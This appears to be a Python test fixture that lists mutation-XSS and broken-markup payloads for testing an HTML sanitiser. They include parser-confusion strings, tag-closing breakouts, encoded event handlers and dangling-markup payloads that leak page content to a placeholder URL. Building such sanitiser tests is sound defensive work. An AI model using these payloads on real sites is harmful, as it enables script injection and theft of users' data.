"""Markup that means one thing to a sanitiser's parser and another to a browser's (mutation XSS), and broken markup."""

from .case import Case

CASES = [
    Case(
        "mutation-math",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=@ACT@&gt;">',
        plain=False,
    ),
    Case(
        "mutation-noscript",
        '<noscript><p title="</noscript><img src=data:, onerror=&quot;@ACT@&quot;>"></noscript>',
        plain=False,
    ),
    Case("mutation-svg-style", '<svg></p><style><a id="</style><img src=data:, onerror=@ACT@>">'),
    Case("mutation-select", '<select><style></select><img src=data:, onerror="@ACT@"></style>', plain=False),
    Case("mutation-xmp", '<xmp><p title="</xmp><img src=data:, onerror=@ACT@>"></xmp>'),
    Case("mutation-cdata", '<svg><![CDATA[><img src=data:, onerror="@ACT@">]]></svg>', plain=False),
    Case("mutation-foreign", '<svg><foreignObject><p><img src="data:," onerror="@ACT@"></p></foreignObject></svg>'),
    Case("comment-end", '<!--><img src=data:, onerror="@ACT@">-->'),
    Case("nested-script", '<scr<script>ipt>x</scr</script>ipt><img src=data:, onerror="@ACT@">'),
    Case("null-byte", '<img src=data:, one\u0000rror=1 onerror\u000c="@ACT@">'),
    Case("slash-attributes", "<svg/onload=@ACT@//>"),
    Case("entity-attributes", "<img src=data: onerror='&#40;&#40;&#41;&#61;&#62;{@ACT@}&#41;&#40;&#41;'>"),
    Case("closes-the-page", "</div></div></main></body></html><script>@ACT@</script>"),
    Case("closes-a-script", "</script><script>@ACT@</script>"),
    Case("closes-a-style", "</style></textarea></title></template><script>@ACT@</script>"),
    Case("dangling", "<img src='@URL@?", plain=False),
    Case("dangling-form", "<form action='@URL@'><textarea name=stolen>", plain=False),
]
